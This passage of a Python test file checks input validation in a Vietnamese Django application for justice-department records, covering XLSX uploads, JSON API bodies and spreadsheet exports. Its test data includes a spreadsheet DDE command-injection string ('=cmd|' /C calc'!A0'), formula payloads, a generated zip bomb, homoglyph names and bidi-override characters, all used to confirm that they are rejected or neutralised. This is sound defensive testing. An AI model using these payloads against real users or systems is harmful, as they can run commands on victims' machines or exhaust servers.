    assert delta["lawdocs.LegalDocument"] == 3 and delta["lawdocs.DocumentRelation"] == 1
    # the page of a document with the far expiry of 2100 still renders; the good records again change nothing
    from django.test import Client

    assert Client().get(stored["08/2020/NQ-HĐND"].get_absolute_url()).status_code == 200
    again = counts()
    out, _ = run("import_lawdocs", lawdocs_file(tmp_path, {"documents": good, "relations": relations[:1]}))
    assert "0 mới, 0 cập nhật, 3 không đổi" in out and changed(again) == {}


# --------------------------------------------------------------------------- violation figures (XLSX upload)

from django.core.files.uploadedfile import SimpleUploadedFile  # noqa: E402
from django.urls import reverse  # noqa: E402

from tuphap.orgs.roles import Role  # noqa: E402
from tuphap.workplans import importer as stats_importer  # noqa: E402
from tuphap.workplans import rules as stats_rules  # noqa: E402
from tuphap.workplans.models import ViolationStat  # noqa: E402

STAT_HEADER = list(stats_rules.STAT_HEADERS_VI)
STAT = [2022, 1, "Công an tỉnh", "Giao thông", 8420, 21356500000, 19870000000]


def stat(**values: Any) -> list[Any]:
    data = dict(zip(stats_rules.STAT_COLUMNS, STAT, strict=True)) | values
    return [data[c] for c in stats_rules.STAT_COLUMNS]


@pytest.fixture
def editor(make_staff: Callable[..., Any]) -> Any:
    return make_staff("chuyenvien", Role.SPECIALIST)


def upload(client: Client, data: bytes, name: str = "so-lieu.xlsx") -> str:
    """POST the workbook to the page, as the form does; the page's HTML."""
    response = client.post(
        reverse("workplans:violations") + "?year=2022&quarter=1",
        {
            "action": "import",
            "imp-file": SimpleUploadedFile(
                name, data, content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            ),
        },
    )
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def sparse_upload(size: int) -> Any:
    """An upload of ``size`` bytes that occupies no memory: a sparse temporary file."""
    from django.core.files.uploadedfile import TemporaryUploadedFile

    upload = TemporaryUploadedFile("khong-lo.xlsx", "application/octet-stream", size, None)
    upload.file.truncate(size)
    upload.file.seek(0)
    return upload


UNREADABLE_XLSX = [
    pytest.param(b"", "Tệp rỗng", id="empty"),
    pytest.param(xlsx_bytes([STAT])[:1500], "không phải bảng tính XLSX đọc được", id="truncated"),
    pytest.param(_corrupt(xlsx_bytes([STAT])), "không phải bảng tính XLSX đọc được", id="zip-garbage"),
    pytest.param("Năm,Quý\n2022,1\n".encode(), "không phải bảng tính XLSX đọc được", id="csv-renamed"),
    pytest.param(xlsx_bytes([], header=STAT_HEADER), "không có dòng dữ liệu", id="header-only"),
    pytest.param(xlsx_bytes([STAT], header=["Năm", "Quý", "Đơn vị"]), "Dòng 1 phải là tiêu đề", id="missing-columns"),
    pytest.param(
        xlsx_bytes([STAT], header=["Quý", "Năm", *STAT_HEADER[2:]]), "Dòng 1 phải là tiêu đề", id="swapped-columns"
    ),
    pytest.param(
        xlsx_bytes([STAT], header=STAT_HEADER, extra_sheets={"Quý 2": [STAT_HEADER, stat(quarter=2)]}),
        "“Quý 2”",
        id="two-sheets",
    ),
]


@pytest.mark.parametrize(("data", "expected"), UNREADABLE_XLSX)
def test_unreadable_workbooks_save_nothing(client: Client, editor: Any, data: bytes, expected: str) -> None:
    before = counts()
    with pytest.raises(Exception) as info:
        stats_importer.violation_stats_import(actor=editor, file=io.BytesIO(data))
    assert info.type.__name__ == "ValidationError" and expected in " ".join(info.value.messages), info.value  # type: ignore[attr-defined]
    client.force_login(editor)
    page = upload(client, data)  # the page shows the message next to the file field, never a 500
    assert (expected if data else "rỗng") in page and 'id="import-report"' not in page
    assert changed(before) == {}


def test_workbook_size_limits_are_checked_before_parsing(editor: Any) -> None:
    before = counts()
    with pytest.raises(Exception) as info:
        stats_importer.violation_stats_import(actor=editor, file=sparse_upload(300 * 1024 * 1024))
    assert "300,0 MB" in str(info.value) and "tối đa 10,0 MB" in str(info.value)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(150):
                member.write(b" " * (1024 * 1024))
    with pytest.raises(Exception) as info:
        stats_importer.violation_stats_import(actor=editor, file=io.BytesIO(buffer.getvalue()))
    assert "giải nén ra 150,0 MB" in str(info.value)
    rows = [stat(reporter=f"Đơn vị {i}") for i in range(stats_importer.MAX_ROWS + 1)]
    with pytest.raises(Exception) as info:
        stats_importer.violation_stats_import(actor=editor, file=io.BytesIO(xlsx_bytes(rows, header=STAT_HEADER)))
    assert "nhiều hơn 20000 dòng" in str(info.value) and "chưa nhập dòng nào" in str(info.value)
    assert changed(before) == {}


BAD_STATS: list[tuple[list[Any], str]] = [
    (stat(year=9999), "Năm: 9999 ngoài khoảng 2000–2100"),
    (stat(year=1945), "Năm: 1945 ngoài khoảng"),
    (stat(year="=YEAR(TODAY())"), "Năm: “=YEAR(TODAY())” không phải số nguyên"),  # a formula: its text, never its value
    (stat(quarter=5), "Quý: 5 ngoài khoảng 1–4"),
    (stat(quarter=0.5), "Quý: “0.5” không phải số nguyên"),
    (stat(decisions=-3), "Số quyết định: -3 ngoài khoảng"),
    (stat(decisions="-3"), "Số quyết định: -3 ngoài khoảng"),
    (stat(fines_imposed="²"), "Tiền phạt: “²” không phải số nguyên"),  # str.isdigit() says yes, int() says no
    (stat(fines_imposed="１２３"), "Tiền phạt: “１２３” không phải số nguyên"),
    (stat(fines_collected=True), "Đã thu: “TRUE” không phải số nguyên"),
    (stat(fines_collected=1250.5), "Đã thu: “1250.5” không phải số nguyên"),
    (stat(fines_collected=10**16), "ngoài khoảng"),
    (stat(decisions="=SUM(E2:E3)"), "Số quyết định: “=SUM(E2:E3)” không phải số nguyên"),
    (stat(field="Nấu ăn"), "Lĩnh vực: “Nấu ăn” không có trong danh mục"),
    (stat(reporter=""), "Đơn vị báo cáo: trống"),
    (stat(reporter="Công an tỉnh " * 30), "dài quá 255"),
    (stat(reporter="Công аn tỉnh"), "U+0430 CYRILLIC SMALL LETTER A"),  # homoglyph
    (stat(reporter="Sở Y tế\u202e"), "U+202E"),
]


def test_bad_stat_rows_are_reported_by_line_and_good_rows_saved(client: Client, editor: Any) -> None:
    good = [
        stat(),
        stat(
            reporter=unicodedata.normalize("NFD", "Sở Tài nguyên và Môi trường"),
            field="moi truong",
            fines_imposed="1.380.000.000",
        ),
        stat(reporter='=HYPERLINK("http://x","Sở Y tế")', field="Y tế", decisions=3),
        stat(reporter="Sở\u200b Xây dựng", field="Xây dựng", decisions=4),
    ]
    rows = [good[0], *[r for r, _m in BAD_STATS], *good[1:]]
    before = counts()
    client.force_login(editor)
    page = upload(client, xlsx_bytes(rows, header=STAT_HEADER))
    assert "Thêm 4 dòng, cập nhật 0, giữ nguyên 0." in page
    for line, (_row, message) in enumerate(BAD_STATS, start=3):
        escaped = message.replace("“", "&ldquo;").replace("”", "&rdquo;")
        assert f"Dòng {line}: " in page and (
            message in page or escaped in page or message.replace('"', "&quot;") in page
        ), message
    assert sorted(ViolationStat.objects.values_list("reporter", flat=True)) == sorted(
        ["Công an tỉnh", "Sở Tài nguyên và Môi trường", '=HYPERLINK("http://x","Sở Y tế")', "Sở Xây dựng"]
    )
    assert all(nfc(r) for r in ViolationStat.objects.values_list("reporter", flat=True))
    assert changed(before) == {"workplans.ViolationStat": 4, "core.AuditEvent": 4}
    again = counts()
    report = stats_importer.violation_stats_import(actor=editor, file=io.BytesIO(xlsx_bytes(rows, header=STAT_HEADER)))
    assert (report.created, report.updated, report.unchanged, len(report.errors)) == (0, 0, 4, len(BAD_STATS))
    assert changed(again) == {}


def test_stat_entered_by_hand_is_cleaned_too(client: Client, editor: Any) -> None:
    client.force_login(editor)
    url = reverse("workplans:violations") + "?year=2022&quarter=1"
    form = {
        "stat-year": 2022,
        "stat-quarter": 1,
        "stat-field": "justice",
        "stat-decisions": 1,
        "stat-fines_imposed": 2,
        "stat-fines_collected": 3,
    }
    before = counts()
    for reporter, message in [
        ("Sở\x1bTư pháp", "U+001B"),
        ("Sở Tư pháp\u202e", "U+202E"),
        ("Sở Tư рháp", "CYRILLIC SMALL LETTER ER"),
        ("Sở\x00", "ký tự null"),
    ]:
        page = client.post(url, {**form, "stat-reporter": reporter}).content.decode()
        assert message in page or message.lower() in page.lower(), (
            reporter,
            page[page.find("errorlist") - 200 :][:600],
        )
    assert changed(before) == {}
    response = client.post(url, {**form, "stat-reporter": unicodedata.normalize("NFD", "Sở Tư pháp\u200b")})
    assert response.status_code == 302
    assert list(ViolationStat.objects.values_list("reporter", flat=True)) == ["Sở Tư pháp"]


def test_stats_template_export_neutralises_formulas(editor: Any) -> None:
    rows = [
        stats_rules.StatRow(2022, 1, '=HYPERLINK("http://x","Sở")', "justice", 1, 2, 3),
        stats_rules.StatRow(2022, 1, "@Sở", "justice", 1, 2, 3),
    ]
    sheet = load_workbook(io.BytesIO(stats_importer.template_xlsx(rows))).active
    assert [c.data_type for c in sheet["C"][1:]] == ["s", "s"] and all(c.quotePrefix for c in sheet["C"][1:])


def test_lawdocs_yearly_list_xlsx_neutralises_formulas(
    client: Client, make_staff: Callable[..., Any], tmp_path: Path
) -> None:
    titles = ['=HYPERLINK("http://x","Quy định")', "+Lệ phí", "-Bãi bỏ", "@Quy chế", "Quy định thường"]
    documents = [
        doc(number=f"{i + 40}/2016/QĐ-UBND", title=title, expires_on="2022-07-01") for i, title in enumerate(titles)
    ]
    run("import_lawdocs", lawdocs_file(tmp_path, {"documents": documents}))
    client.force_login(make_staff("chuyenvien", Role.SPECIALIST))
    response = client.get(reverse("lawdocs:yearly_file", args=[2022, "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for c in sheet["E"][3:] if c.value]
    assert {c.value for c in cells} == set(titles)
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if c.value != "Quy định thường")


def test_quarterly_report_xlsx_neutralises_formulas(catalogue: Any, units: dict[str, Any], tmp_path: Path) -> None:
    from tuphap.orgs import services as orgs
    from tuphap.reports.quarterly import build
    from tuphap.reports.quarterly.render_xlsx import render_xlsx
    from tuphap.reports.services import aggregates_refresh

    unit = units["hctp"]
    orgs.unit_upsert(actor=None, agency=unit.agency, code=unit.code, name="=cmd|' /C calc'!A0")
    run("import_dossiers", str(write(tmp_path, "hoso.csv", csv_bytes([row()]))))
    aggregates_refresh()  # the periodic job's run: the report reads what it counted
    report = build(2022, 1, as_of=dt.datetime(2022, 6, 30, tzinfo=importing.LOCAL))
    sheet = load_workbook(io.BytesIO(render_xlsx(report)))["Theo don vi"]
    cell = next(c for c in sheet["A"] if c.value == "=cmd|' /C calc'!A0")
    assert cell.data_type == "s" and cell.quotePrefix


# --------------------------------------------------------------------------- the API's POST bodies

API_BODY = {
    "procedure_code": NATIONALITY,
    "applicant": {"name": "Trần Thị Bình", "id_number": "060198765432", "phone": "0987654321"},
    "channel": "desk",
}


def api_post(client: Client, url: str, body: Any) -> Any:
    return client.post(
        url, data=body if isinstance(body, bytes | str) else json.dumps(body), content_type="application/json"
    )


def applicant(**values: Any) -> dict[str, Any]:
    return {**API_BODY, "applicant": {**API_BODY["applicant"], **values}}


def fields_of(response: Any) -> dict[str, str]:
    """{field: message} of a 422 answer (one shape for schema and service errors)."""
    detail = response.json()["detail"]
    assert isinstance(detail, list), detail
    return {item["field"]: item["message"] for item in detail}


@pytest.fixture
def desk(client: Client, make_staff: Callable[..., Any], catalogue: Any) -> Client:
    """A reception officer who may also import (backdate, keep a legacy code)."""
    client.force_login(make_staff("quantri2", Role.RECEPTION, Role.ADMIN))
    return client


BAD_INTAKES: list[tuple[dict[str, Any], str, str]] = [
    (applicant(name="Lê Văn \u202eA"), "applicant.name", "U+202E"),
    (applicant(name="Lê\u0000Văn"), "applicant.name", "U+0000"),
    (applicant(name="Lê Văn \ud800"), "applicant.name", "U+D800"),  # a lone surrogate, legal in JSON
    (applicant(name="Lê Văn\x1b[31mĐỏ"), "applicant.name", "U+001B"),
    (applicant(name="Nguyễn Vаn Giả"), "applicant.name", "CYRILLIC SMALL LETTER A"),
    (applicant(name="A" * 10_000), "applicant.name", "255"),
    (applicant(name=12345), "applicant.name", "chuỗi"),
    (applicant(name=None), "applicant.name", "chuỗi"),
    (applicant(address="Phan Thiết\u2066"), "applicant.address", "U+2066"),
    (applicant(phone="０９８７６５４３２１"), "applicant.phone", "Số điện thoại không hợp lệ"),
    (applicant(phone="-987654321"), "applicant.phone", "Số điện thoại không hợp lệ"),
    (applicant(id_number="٠٦٠١٩٨٧٦٥٤٣٢"), "applicant.id_number", "12 chữ số"),
    ({**API_BODY, "procedure_code": NATIONALITY.replace("H09", "Н09")}, "procedure_code", "CYRILLIC CAPITAL LETTER EN"),
    ({**API_BODY, "procedure_code": NATIONALITY + "\x00"}, "procedure_code", "U+0000"),
    ({**API_BODY, "code": "000.00.17.H09-220307-０００１"}, "code", "FULLWIDTH DIGIT ZERO"),
    ({**API_BODY, "received_at": "9999-12-31T09:00:00+07:00"}, "received_at", "ở tương lai"),
    ({**API_BODY, "received_at": "2100-01-01T09:00:00+07:00"}, "received_at", "ở tương lai"),
    ({**API_BODY, "received_at": "1900-01-01T09:00:00+07:00"}, "received_at", "trước ngày 02/09/1945"),
    ({**API_BODY, "received_at": "0001-01-01T00:00:00+07:00"}, "received_at", "trước ngày 02/09/1945"),
    ({**API_BODY, "received_at": "2022-02-31T09:00:00+07:00"}, "received_at", "ngày"),
    ({**API_BODY, "received_at": "2022-13-01T09:00:00+07:00"}, "received_at", "tháng"),
    ({**API_BODY, "received_at": "hôm qua"}, "received_at", "thời điểm"),
    ({**API_BODY, "received_at": "2022-03-07T09:00:00"}, "received_at", "múi giờ"),
    ({**API_BODY, "channel": "bồ câu"}, "channel", "desk"),
    ({**API_BODY, "applicant": "Trần Thị Bình"}, "applicant.name", "Thiếu trường này"),
]


@pytest.mark.parametrize(("body", "field", "message"), BAD_INTAKES)
def test_intake_bodies_with_bad_names_codes_and_dates_are_422(
    desk: Client, body: dict[str, Any], field: str, message: str
) -> None:
    before = counts()
    response = api_post(desk, "/api/v1/dossiers", body)
    assert response.status_code == 422, response.content
    errors = fields_of(response)
    assert field in errors and message in errors[field], errors
    assert changed(before) == {}


def test_intake_stores_names_in_nfc_without_invisible_characters(desk: Client) -> None:
    body = applicant(
        name=unicodedata.normalize("NFD", "Nguyễn\u200b Thị\u00a0Ánh\u200d"),
        address=unicodedata.normalize("NFD", "Phường Phú Thủy,\tPhan Thiết"),
    )
    response = api_post(
        desk, "/api/v1/dossiers", {**body, "received_at": "2022-03-07T09:00:00+07:00", "code": "CU-2022-0001"}
    )
    assert response.status_code == 201, response.content
    dossier = Dossier.objects.get(code="CU-2022-0001")
    assert dossier.applicant_name == "Nguyễn Thị Ánh" and dossier.applicant_address == "Phường Phú Thủy, Phan Thiết"
    assert nfc(dossier.applicant_name) and nfc(dossier.applicant_address)


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{",
        b"[]",
        b'"x"',
        b"null",
        b"\xff\xfe{\x00}\x00",
        '{"procedure_code": "x"}'.encode("utf-16"),
        b"[" * 100_000,
    ],
    ids=["empty", "truncated", "list", "string", "null", "utf-16-bytes", "utf-16", "deep"],
)
def test_intake_bodies_that_are_not_json_objects_are_4xx(desk: Client, raw: bytes) -> None:
    before = counts()
    response = desk.post("/api/v1/dossiers", data=raw, content_type="application/json")
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    assert changed(before) == {}


@pytest.fixture
def received(desk: Client) -> str:
    response = api_post(desk, "/api/v1/dossiers", API_BODY)
    assert response.status_code == 201
    return str(response.json()["code"])


BAD_ACTIONS: list[tuple[str, Any, str, str]] = [
    ("extend", {"reason": "Chờ xác minh", "new_due_at": "9999-12-31T17:00:00+07:00"}, "new_due_at", "lịch làm việc"),
    ("extend", {"reason": "Chờ xác minh", "new_due_at": "2100-01-01T17:00:00+07:00"}, "new_due_at", "lịch làm việc"),
    ("extend", {"reason": "Chờ xác minh", "new_due_at": "2026-02-30T17:00:00+07:00"}, "new_due_at", "ngày"),
    ("extend", {"reason": "Chờ xác minh", "new_due_at": "ngày mai"}, "new_due_at", "thời điểm"),
    ("extend", {"reason": "Chờ\x00 xác minh", "new_due_at": "2030-01-01T17:00:00+07:00"}, "reason", "U+0000"),
    ("extend", {"reason": "Chờ xác minh\u202e", "new_due_at": "2030-01-01T17:00:00+07:00"}, "reason", "U+202E"),
    ("extend", {"reason": 5, "new_due_at": "2030-01-01T17:00:00+07:00"}, "reason", "chuỗi"),
    ("request_supplement", {"items": ["Bản sao\x00"], "reason": "Thiếu"}, "items.0", "U+0000"),
    ("request_supplement", {"items": "Bản sao", "reason": "Thiếu"}, "items", "danh sách"),
    ("assign", {"handler": "chuyen\x00vien"}, "handler", "U+0000"),
    ("resolve", {"outcome": "approved", "reason": "\ud800"}, "reason", "U+D800"),
    ("stop", {"reason": "x" * 6000}, "reason", "5000"),
    ("rate", {"rating": "tốt"}, "rating", "good"),
    ("rate", ["good"], "body", "đối tượng JSON"),
    ("rate", "{rating: good", "body", "JSON hợp lệ"),
]


@pytest.mark.parametrize(("action", "body", "field", "message"), BAD_ACTIONS)
def test_action_bodies_with_bad_dates_and_text_are_422(
    desk: Client, received: str, make_staff: Callable[..., Any], action: str, body: Any, field: str, message: str
) -> None:
    desk.force_login(make_staff("giamdoc", Role.DIRECTOR, unit=None))
    before = counts()
    response = api_post(desk, f"/api/v1/dossiers/{received}/actions/{action}", body)
    assert response.status_code == 422, response.content
    errors = fields_of(response)
    assert field in errors and message in errors[field], errors
    assert changed(before) == {}


def test_action_text_is_stored_in_nfc(desk: Client, received: str, make_staff: Callable[..., Any]) -> None:
    head = make_staff("truongphong", Role.UNIT_HEAD)
    desk.force_login(head)
    reason = unicodedata.normalize("NFD", "Hồ sơ cần xác minh thêm\u200b")
    response = api_post(desk, f"/api/v1/dossiers/{received}/actions/stop", {"reason": reason})
    assert response.status_code == 200, response.content
    note = Dossier.objects.get(code=received).events.order_by("-seq").first().note
    assert nfc(note) and note == "Hồ sơ cần xác minh thêm"


TASK = {
    "source": {
        "kind": "conclusion",
        "number": "86/TB-UBND",
        "issued_on": "2022-04-12",
        "issuer": "UBND tỉnh",
        "title": "Kết luận quý I/2022",
    },
    "content": "Tham mưu chỉ thị về chất lượng văn bản",
    "lead_unit": "hctp",
    "deadline_kind": "date",
    "due_on": "2022-06-30",
}


def task(**values: Any) -> dict[str, Any]:
    return {**TASK, **values}


def with_source(**values: Any) -> dict[str, Any]:
    return task(source={**TASK["source"], **values})


BAD_TASKS: list[tuple[dict[str, Any], str, str]] = [
    (task(due_on="9999-12-31"), "due_on", "2100"),
    (task(due_on="2101-01-01"), "due_on", "2100"),
    (task(due_on="2022-02-30"), "due_on", "tháng đó không có ngày này"),
    (task(due_on="2022-13-01"), "due_on", "tháng phải từ 01 đến 12"),
    (task(due_on="30/06/2022"), "due_on", "YYYY-MM-DD"),
    (task(due_on="2022-04-01"), "due_on", "trước ngày giao"),  # before the assignment
    (task(deadline_kind="working_days", deadline_days=-5, due_on=None), "deadline_days", "lớn hơn hoặc bằng 1"),
    (task(deadline_kind="working_days", deadline_days="năm", due_on=None), "deadline_days", "số nguyên"),
    (task(assigned_on="9999-01-01"), "assigned_on", "2100"),
    (with_source(issued_on="1900-01-01"), "issued_on", "02/09/1945"),
    (with_source(issued_on="9999-01-01"), "issued_on", "2100"),
    (with_source(title="Kết luận\x00"), "title", "U+0000"),
    (with_source(issuer="UBND tỉnh \u202e"), "issuer", "U+202E"),
    (with_source(number="86/ТB-UBND"), "number", "CYRILLIC CAPITAL LETTER TE"),
    (task(content="Tham mưu\x00"), "content", "U+0000"),
    (task(content="Tham mưu \ud800"), "content", "U+D800"),
    (task(lead_unit="hctp\x00"), "lead_unit", "U+0000"),
    (task(owner="chuyen\x00vien"), "owner", "U+0000"),
    (task(coordinating_units=["btp\x00"]), "coordinating_units", "U+0000"),
    (task(content=["Tham mưu"]), "content", "chuỗi"),
]


@pytest.mark.parametrize(("body", "field", "message"), BAD_TASKS)
def test_task_bodies_with_bad_dates_and_text_are_422(
    client: Client, director: Any, units: dict[str, Any], body: dict[str, Any], field: str, message: str
) -> None:
    client.force_login(director)
    before = counts()
    response = api_post(client, "/api/v1/workplans/tasks", body)
    assert response.status_code == 422, response.content
    errors = fields_of(response)
    assert any(
        f == field or f.startswith(field + ".") or f == "source." + field for f in errors
    ) and message in " ".join(errors.values()), errors
    assert changed(before) == {}


def test_task_text_is_stored_in_nfc(client: Client, director: Any, units: dict[str, Any]) -> None:
    from tuphap.workplans.models import Task

    client.force_login(director)
    body = with_source(
        title=unicodedata.normalize("NFD", "Kết luận\u200b của Chủ tịch"),
        issuer=unicodedata.normalize("NFD", "UBND tỉnh"),
    )
    response = api_post(
        client, "/api/v1/workplans/tasks", {**body, "content": unicodedata.normalize("NFD", "Rà soát\u200b văn bản")}
    )
    assert response.status_code == 201, response.content
    stored = Task.objects.select_related("source").get()
    assert (stored.content, stored.source.title, stored.source.issuer) == (
        "Rà soát văn bản",
        "Kết luận của Chủ tịch",
        "UBND tỉnh",
    )


BAD_TASK_ACTIONS: list[tuple[str, dict[str, Any], str, str]] = [
    ("complete", {"result_document": "Báo cáo số 12\x00"}, "result_document", "U+0000"),
    ("complete", {"result_document": "Báo cáo số 12", "on": "9999-12-31"}, "on", ""),
    ("complete", {"result_document": "Báo cáo số 12", "on": "2022-02-30"}, "on", "tháng đó không có ngày này"),
    ("start", {"note": "Bắt đầu\u202e"}, "note", "U+202E"),
    ("reschedule", {"reason": "Chờ số liệu", "due_on": "9999-12-31"}, "due_on", "2100"),
    ("reschedule", {"reason": "Chờ số liệu", "due_on": "2022-13-40"}, "due_on", "YYYY-MM-DD"),
    ("note", {"note": "x", "on": "ngày mai"}, "on", "YYYY-MM-DD"),
]


@pytest.mark.parametrize(("action", "body", "field", "message"), BAD_TASK_ACTIONS)
def test_task_action_bodies_with_bad_dates_and_text_are_422(
    client: Client,
    director: Any,
    make_task: Callable[..., Any],
    action: str,
    body: dict[str, Any],
    field: str,
    message: str,
) -> None:
    work = make_task()
    client.force_login(director)
    before = counts()
    response = api_post(client, f"/api/v1/workplans/tasks/{work.pk}/actions/{action}", body)
    assert response.status_code == 422, response.content
    errors = fields_of(response)
    assert field in errors and message in errors[field], errors
    assert changed(before) == {}


API_DOC = {
    "number": "12/2016/QĐ-UBND",
    "type": "decision",
    "issuer": "UBND tỉnh Bình Thuận",
    "title": "Quy định về đăng ký hộ tịch",
    "issued_on": "2016-03-10",
    "effective_from": "2016-03-25",
}

BAD_DOCUMENT_BODIES: list[tuple[dict[str, Any], str]] = [
    ({**API_DOC, "expires_on": "9999-12-31"}, "sau năm 2100"),
    ({**API_DOC, "issued_on": "1900-01-01"}, "trước ngày 02/09/1945"),
    ({**API_DOC, "issued_on": "2099-01-01", "effective_from": "2099-02-01"}, "chưa tới"),
    ({**API_DOC, "issued_on": "2016-02-30"}, "tháng đó không có ngày này"),
    ({**API_DOC, "effective_from": "25/03/2016"}, "YYYY-MM-DD"),
    ({**API_DOC, "title": "Quy định\x00"}, "U+0000"),
    ({**API_DOC, "issuer": "UBND tỉnh Вình Thuận"}, "CYRILLIC CAPITAL LETTER VE"),
    ({**API_DOC, "number": "12/2016/QĐ-UBNД"}, "CYRILLIC CAPITAL LETTER DE"),
    ({**API_DOC, "text": "Điều 1\u202e"}, "U+202E"),
    ({**API_DOC, "type": "luật"}, "decision"),
]


@pytest.mark.parametrize(("body", "message"), BAD_DOCUMENT_BODIES)
def test_document_bodies_with_bad_dates_and_text_are_422(
    client: Client, make_staff: Callable[..., Any], body: dict[str, Any], message: str
) -> None:
    client.force_login(make_staff("chuyenvien", Role.SPECIALIST))
    before = counts()
    response = api_post(client, "/api/v1/lawdocs", body)
    assert response.status_code == 422, response.content
    assert message in json.dumps(response.json(), ensure_ascii=False), response.json()
    assert changed(before) == {}


def test_document_body_text_is_stored_in_nfc(client: Client, make_staff: Callable[..., Any]) -> None:
    from tuphap.lawdocs.models import LegalDocument

    client.force_login(make_staff("chuyenvien", Role.SPECIALIST))
    body = {
        **API_DOC,
        "title": unicodedata.normalize("NFD", "Quy định\u200b về hộ tịch"),
        "issuer": unicodedata.normalize("NFD", "UBND tỉnh Bình Thuận"),
    }
    assert api_post(client, "/api/v1/lawdocs", body).status_code == 201
    stored = LegalDocument.objects.get()
    assert (stored.title, stored.issuer) == ("Quy định về hộ tịch", "UBND tỉnh Bình Thuận")
